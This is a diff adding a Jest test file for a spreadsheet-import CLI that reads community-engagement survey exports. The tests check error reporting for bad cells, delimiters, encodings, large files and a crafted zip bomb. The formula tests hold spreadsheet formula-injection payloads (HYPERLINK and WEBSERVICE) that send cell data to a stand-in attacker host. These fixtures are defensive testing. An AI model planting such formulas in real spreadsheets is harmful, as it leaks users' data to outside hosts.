@@ -1,0 +1,344 @@
+// Bad spreadsheets for `ce-plan import`: each problem gets its file, row and column, the rows without
+// one are still written, and the exit code is 1 (2 for a file that cannot be read at all).
+import { describe, expect, test } from '@jest/globals';
+import ExcelJS from 'exceljs';
+import { stringify } from 'csv-stringify/sync';
+import { existsSync, readdirSync, readFileSync, statSync, truncateSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { parse } from 'yaml';
+import { runCli, STACK_TRACE } from './helpers/cli.js';
+import { tempDir as makeTempDir } from './helpers/temp.js';
+
+const tempDir = () => makeTempDir('import-bad');
+
+const MUST_DO = 'Do your leaders see engaging the community as a "must do", not an extra?';
+const RESPONDING = 'Does your organisation act on the issues local people raise?';
+const DEFINITION = 'Have you written down what community engagement means for your group?';
+const ANSWER = 'How would you answer a demand you cannot meet, such as doubling police on the beat?';
+const HEADER = ['Organisation', MUST_DO, RESPONDING, DEFINITION, ANSWER];
+const good = (name: string) => [name, 'Yes', 'Sometimes', 'Partly, or only in rough notes', 'We would say what we can do instead.'];
+
+/** Imports a file made in a fresh folder; the answer files go to its `answers` folder. */
+async function importing(name: string, content: string | Buffer, ...flags: string[]) {
+  const dir = tempDir();
+  const file = join(dir, name);
+  writeFileSync(file, content);
+  const run = await runCli(['import', file, '--bank', 'quick-check', '--out-dir', join(dir, 'answers'), ...flags]);
+  expect(run.stderr).not.toMatch(STACK_TRACE);
+  const written = existsSync(join(dir, 'answers')) ? readdirSync(join(dir, 'answers')).sort() : [];
+  return { ...run, file, dir, written, answer: (stem: string) => readFileSync(join(dir, 'answers', `${stem}.yaml`), 'utf8') };
+}
+
+const csv = (rows: (string | number)[][], delimiter = ',') => stringify(rows, { delimiter, record_delimiter: '\r\n' });
+
+/** A finding as the output shows it: row:column, severity, rule, message. */
+const finding = (at: string, severity: 'error' | 'warning', rule: string, message: string | RegExp) =>
+  new RegExp(`\\n {2}${at} +${severity} +${rule} +${typeof message === 'string' ? message.replace(/[.*+?^${}()|[\]\\]/g, '\\$&') : message.source}`);
+
+describe('a cell that fits no option', () => {
+  test('is reported at its row and column with "did you mean"; its row writes no file, the others are written', async () => {
+    const run = await importing('responses.csv', csv([HEADER, good('Northfield'), ['Riverside', 'Partially', 'No', 'No', ''], good('Eastgate')]));
+    expect(run.code).toBe(1);
+    expect(run.stderr).toContain(`${run.file}\n`);
+    expect(run.stderr).toMatch(
+      finding('3:2', 'error', 'unknown-option', '"must-do": "Partially" fits no option ("Yes", "Partly", "No", "Don\'t know"); did you mean "Partly"?'),
+    );
+    expect(run.written).toEqual(['eastgate.yaml', 'northfield.yaml']);
+  });
+
+  test('in a multiple choice, each piece that fits none is named', async () => {
+    const header = ['Organisation', 'Which of these is your engagement linked to?'];
+    const dir = tempDir();
+    const file = join(dir, 'r.csv');
+    writeFileSync(
+      file,
+      csv([
+        header,
+        ['Northfield', "Your business plan;Your partnership's plans or objectivs;"],
+        ['Eastgate', 'Your business plan;How your organisation works day to day (its culture and values)'],
+      ]),
+    );
+    const run = await runCli(['import', file, '--bank', 'ce-readiness', '--out-dir', join(dir, 'answers')]);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toMatch(
+      finding(
+        '2:2',
+        'error',
+        'unknown-option',
+        /"plan-links": "Your partnership's plans or objectivs" fits no option .*; did you mean "Your partnership's plans or objectives"\?/,
+      ),
+    );
+    expect(readdirSync(join(dir, 'answers'))).toEqual(['eastgate.yaml']);
+  });
+});
+
+test('a column that matches no question is reported at row 1 with "did you mean"; every row is still written', async () => {
+  const typo = 'Have you writen down what community engagement means for your group';
+  const run = await importing(
+    'responses.csv',
+    csv([
+      [...HEADER, typo, 'Any other comments?'],
+      [...good('Northfield'), 'Yes', 'None'],
+      [...good('Riverside'), 'No', ''],
+    ]),
+  );
+  expect(run.code).toBe(1);
+  expect(run.stderr).toMatch(
+    finding(
+      '1:6',
+      'error',
+      'unknown-column',
+      `column "${typo.slice(0, 37)}..." matches no question of bank "quick-check"; did you mean "${DEFINITION}" (definition-written)?`,
+    ),
+  );
+  expect(run.stderr).toMatch(finding('1:7', 'error', 'unknown-column', 'column "Any other comments?" matches no question of bank "quick-check" (--ignore it'));
+  expect(run.written).toEqual(['northfield.yaml', 'riverside.yaml']);
+  // --ignore silences it.
+  const ignored = await importing(
+    'responses.csv',
+    csv([
+      [...HEADER, 'Any other comments?'],
+      [...good('Northfield'), 'None'],
+    ]),
+    '--ignore',
+    'any other comments',
+  );
+  expect(ignored).toMatchObject({ code: 0, stderr: '' });
+});
+
+test('a column with no header is left alone when empty, and an error when a row fills it', async () => {
+  const run = await importing(
+    'responses.csv',
+    csv([
+      [...HEADER, '', ''],
+      [...good('Northfield'), '', ''],
+      [...good('Riverside'), '', 'stray'],
+    ]),
+  );
+  expect(run.code).toBe(1);
+  expect(run.stderr).toMatch(finding('1:7', 'error', 'unknown-column', 'column 7 has no header, but row 3 holds a value in it; name the column, or empty it'));
+  expect(run.stderr).not.toMatch(/1:6 /);
+  expect(run.written).toEqual(['northfield.yaml', 'riverside.yaml']);
+  const empty = await importing('responses.csv', '');
+  expect(empty.code).toBe(2);
+  expect(empty.stderr).toContain('is empty: a form export has a header row, then a row for each response');
+});
+
+test('a duplicated header: both columns are read, a row where they differ is refused', async () => {
+  const run = await importing(
+    'responses.csv',
+    csv([
+      [...HEADER, RESPONDING],
+      [...good('Northfield'), 'Sometimes'],
+      [...good('Riverside'), 'No'],
+      [...good('Eastgate'), ''],
+    ]),
+  );
+  expect(run.code).toBe(1);
+  expect(run.stderr).toMatch(
+    finding('1:6', 'error', 'duplicate-column', /column "Does your .*" is a second column for question "responding" \(column 3 is the first\)/),
+  );
+  expect(run.stderr).toMatch(finding('3:6', 'error', 'duplicate-column', 'this column and column 3 are for the same question, and differ on this row'));
+  expect(run.written).toEqual(['eastgate.yaml', 'northfield.yaml']);
+});
+
+test('an empty row is skipped with a warning; the others are written, and nothing failed', async () => {
+  const text = `${csv([HEADER, good('Northfield')])},,,,\r\n\r\n${csv([good('Riverside')])}`;
+  const run = await importing('responses.csv', text);
+  expect(run.code).toBe(0);
+  expect(run.stderr).toMatch(finding('3:1', 'warning', 'empty-row', 'row 3 is empty; it is skipped'));
+  expect(run.stderr).toMatch(finding('4:1', 'warning', 'empty-row', 'row 4 is empty; it is skipped'));
+  expect(run.written).toEqual(['northfield.yaml', 'riverside.yaml']);
+});
+
+describe('a wrong delimiter', () => {
+  test('a row separated otherwise than the header is refused at its row; the others are written', async () => {
+    const text = `${csv([HEADER, good('Northfield')], ';')}${csv([good('Riverside')], ',')}${csv([good('Eastgate')], ';')}`;
+    const run = await importing('responses.csv', text);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toMatch(finding('3:1', 'error', 'row-length', 'row 3 is one cell, where the header has 5: it is separated by ",", not ";"'));
+    expect(run.written).toEqual(['eastgate.yaml', 'northfield.yaml']);
+  });
+
+  test('a value with the delimiter in it, unquoted, is refused at its row', async () => {
+    const text = `${csv([HEADER, good('Northfield')])}Riverside,Yes,Sometimes,No,We would say, plainly, what we can do\r\n`;
+    const run = await importing('responses.csv', text);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toMatch(
+      finding('3:6', 'error', 'row-length', 'row 3 has 7 cells, but the header has 5: a value with "," in it must be in double quotes'),
+    );
+    expect(run.written).toEqual(['northfield.yaml']);
+  });
+
+  test('--delimiter that the file does not use says which it seems to use', async () => {
+    const run = await importing('responses.csv', csv([HEADER, good('Northfield')], ';'), '--delimiter', ',');
+    expect(run.code).toBe(2);
+    expect(run.stderr).toContain(`has no column for the organisation's name`);
+    expect(run.stderr).toContain(`the header's cells hold ";": is the file separated by it? pass --delimiter ";"`);
+  });
+});
+
+describe('a large file', () => {
+  test('of 20 MB: the row with a cell too large for an answer file is refused at that cell; the others are written', async () => {
+    const huge = 'x'.repeat(20 * 1024 * 1024);
+    const run = await importing('responses.csv', csv([HEADER, good('Northfield'), ['Riverside', 'Yes', 'No', 'No', huge], good('Eastgate')]));
+    expect(statSync(run.file).size).toBeGreaterThan(20 * 1024 * 1024);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toMatch(
+      finding('3:5', 'error', 'answer-too-large', 'this cell holds 20.0 MiB of text, more than an answer file can hold (3.9 MiB in all)'),
+    );
+    expect(run.written).toEqual(['eastgate.yaml', 'northfield.yaml']);
+  });
+
+  test('larger than a form export should be is refused before it is read (exit 2)', async () => {
+    const dir = tempDir();
+    const file = join(dir, 'huge.csv');
+    writeFileSync(file, '');
+    truncateSync(file, 65 * 1024 * 1024); // sparse: nothing is written to disk
+    const run = await runCli(['import', file, '--bank', 'quick-check', '--out-dir', join(dir, 'answers')]);
+    expect(run.code).toBe(2);
+    expect(run.stderr).toMatch(/1:1 +error +file-too-large +is 65\.0 MiB, larger than a form export should be \(the limit is 64\.0 MiB\)/);
+  });
+});
+
+describe('formulas', () => {
+  test('in a workbook are refused at their cell and never evaluated; the other rows are written', async () => {
+    const workbook = new ExcelJS.Workbook();
+    const sheet = workbook.addWorksheet('Form1');
+    sheet.addRow(HEADER);
+    sheet.addRow(good('Northfield'));
+    sheet.addRow(['Riverside', { formula: 'HYPERLINK("http://attacker.invalid/?leak="&B2,"Yes")', result: 'Yes' }, 'No', 'No', '']);
+    sheet.addRow(['Eastgate', 'Yes', 'No', 'No', { formula: 'WEBSERVICE("http://attacker.invalid/")' }]);
+    sheet.addRow(good('Westfield'));
+    const run = await importing('responses.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
+    expect(run.code).toBe(1);
+    expect(run.stderr).toMatch(finding('3:2', 'error', 'formula-cell', /"must-do": is a formula \("=HYPERLINK\(.*"\); ce-plan never runs formulas/));
+    expect(run.stderr).toMatch(finding('4:5', 'error', 'formula-cell', /"unmeetable-answer": is a formula \("=WEBSERVICE\(/));
+    expect(run.written).toEqual(['northfield.yaml', 'westfield.yaml']);
+  });
+
+  test('in a CSV are text: kept as typed in a text answer, and no option in a choice', async () => {
+    const formula = '=HYPERLINK("http://attacker.invalid/","click")';
+    const run = await importing('responses.csv', csv([HEADER, ['Northfield', 'Yes', 'Sometimes', 'No', formula], ['Riverside', formula, 'No', 'No', '']]));
+    expect(run.code).toBe(1);
+    expect(run.stderr).toMatch(finding('3:2', 'error', 'unknown-option', '"must-do": "=HYPERLINK(\\"http://attacker.invalid/\\"...'));
+    expect((parse(run.answer('northfield')) as { answers: Record<string, string> }).answers['unmeetable-answer']).toBe(formula);
+  });
+});
+
+describe('a mis-encoded file', () => {
+  const latin1 = () => {
+    const text = csv([HEADER, good('Northfield'), ['Café Partnership', 'Yes', 'No', 'No', ''], ['Eastgate', 'Yes', 'No', 'No', 'We don’t know yet']]);
+    return Buffer.from(text.replace('’', '\u0092'), 'latin1'); // Windows-1252's bytes for é and ’
+  };
+
+  test('is refused cell by cell, at each row and column with bytes that are not UTF-8; the other rows are written', async () => {
+    const run = await importing('responses.csv', latin1());
+    expect(run.code).toBe(1);
+    expect(run.stderr).toMatch(finding('3:1', 'error', 'unreadable-cell', '"organisation": holds bytes that are not UTF-8 text'));
+    expect(run.stderr).toMatch(
+      finding('4:5', 'error', 'unreadable-cell', /"unmeetable-answer": holds bytes that are not UTF-8 text .* pass --encoding windows-1252/),
+    );
+    expect(run.written).toEqual(['northfield.yaml']);
+  });
+
+  test('reads as it was written with --encoding', async () => {
+    const run = await importing('responses.csv', latin1(), '--encoding', 'windows-1252');
+    expect(run).toMatchObject({ code: 0, stderr: '' });
+    expect(run.written).toEqual(['cafe-partnership.yaml', 'eastgate.yaml', 'northfield.yaml']);
+    expect(run.answer('cafe-partnership')).toContain('name: Café Partnership');
+    expect(run.answer('eastgate')).toContain('We don’t know yet');
+  });
+
+  test('UTF-16 with its byte order mark, as Excel saves "Unicode Text", tab-separated', async () => {
+    const text = csv([HEADER, good('Café Northfield')], '\t');
+    const run = await importing('responses.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
+    expect(run).toMatchObject({ code: 0, stderr: '' });
+    expect(run.answer('cafe-northfield')).toContain('name: Café Northfield');
+  });
+});
+
+describe('files that cannot be read as a form export', () => {
+  test('a quote never closed: the rows before it are written', async () => {
+    const run = await importing('responses.csv', `${csv([HEADER, good('Northfield')])}Riverside,"Yes,No,No,\r\nEastgate,Yes,No,No,\r\n`);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toMatch(finding('3:1', 'error', 'csv-syntax', 'row 3: a quoted cell here is never closed, so the rest of the file cannot be read'));
+    expect(run.written).toEqual(['northfield.yaml']);
+  });
+
+  test('an old .xls workbook, binary junk and a zip that claims to unpack to too much are refused (exit 2)', async () => {
+    const xls = await importing('responses.xls', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0]));
+    expect(xls.code).toBe(2);
+    expect(xls.stderr).toContain('is an old Excel .xls workbook; save it as an Excel Workbook (.xlsx) or as CSV UTF-8');
+    const junk = await importing('responses.csv', Buffer.from([0x41, 0x00, 0x42, 0xff]));
+    expect(junk.code).toBe(2);
+    expect(junk.stderr).toContain('is not a text file (a zero byte at offset 1)');
+    // A zip whose one entry says it unpacks to 1 GiB (a zip bomb): refused from its directory, unpacked never.
+    const entry = Buffer.alloc(46 + 8);
+    entry.writeUInt32LE(0x02014b50, 0);
+    entry.writeUInt32LE(1024 * 1024 * 1024, 24);
+    entry.writeUInt16LE(8, 28);
+    entry.write('xl/a.xml', 46);
+    const end = Buffer.alloc(22);
+    end.writeUInt32LE(0x06054b50, 0);
+    end.writeUInt16LE(1, 10);
+    end.writeUInt32LE(4, 16);
+    const bomb = await importing('responses.xlsx', Buffer.concat([Buffer.from('PK\u0003\u0004'), entry, end]));
+    expect(bomb.code).toBe(2);
+    expect(bomb.stderr).toContain('unpacks to 1024.0 MiB, larger than a form export should be');
+  });
+
+  test('a SurveyJS value no question takes is refused at its line and column', async () => {
+    const results = JSON.stringify(
+      [
+        { organisation: 'Northfield', 'must-do': 'yes' },
+        { organisation: 'Riverside', 'must-do': { matrix: 1 } },
+      ],
+      null,
+      2,
+    );
+    const run = await importing('results.json', results);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toMatch(
+      finding('8:16', 'error', 'unreadable-cell', '"must-do": holds a group of answers (a matrix or panel) that no ce-plan question takes'),
+    );
+    expect(run.written).toEqual(['northfield.yaml']);
+  });
+});
+
+describe('dates', () => {
+  test('a date that could be read two ways is refused in a date column, at its cell', async () => {
+    const run = await importing(
+      'responses.csv',
+      csv([
+        [...HEADER, 'Date'],
+        [...good('Northfield'), '20/11/2026'],
+        [...good('Riverside'), '03/04/2026'],
+        [...good('Eastgate'), '2026-11-22'],
+        [...good('Westfield'), '3rd Dec 2026'],
+        [...good('Southgate'), '31 September 2026'],
+      ]),
+    );
+    expect(run.code).toBe(1);
+    expect(run.stderr).toMatch(finding('3:6', 'error', 'invalid-date', '"date": "03/04/2026" could be day-month or month-day; write dates as YYYY-MM-DD'));
+    expect(run.answer('northfield')).toContain('date: 2026-11-20');
+    expect(run.answer('eastgate')).toContain('date: 2026-11-22');
+    expect(run.answer('westfield')).toContain('date: 2026-12-03');
+    expect(run.stderr).toMatch(finding('6:6', 'error', 'invalid-date', '"date": "31 September 2026" is not a real date'));
+  });
+
+  test("a tool's timestamp that cannot be read leaves the date out, with one warning", async () => {
+    const run = await importing(
+      'responses.csv',
+      csv([
+        ['Timestamp', ...HEADER],
+        ['2026/11/20 9:02:11 AM GMT', ...good('Northfield')],
+        ['03/04/2026 10:00', ...good('Riverside')],
+      ]),
+    );
+    expect(run.code).toBe(0);
+    expect(run.stderr).toMatch(finding('3:1', 'warning', 'invalid-date', 'the date of row 3 (and any others like it) is left out'));
+    expect(run.answer('northfield')).toContain('date: 2026-11-20');
+    expect(run.answer('riverside')).not.toContain('date:');
+  });
+});
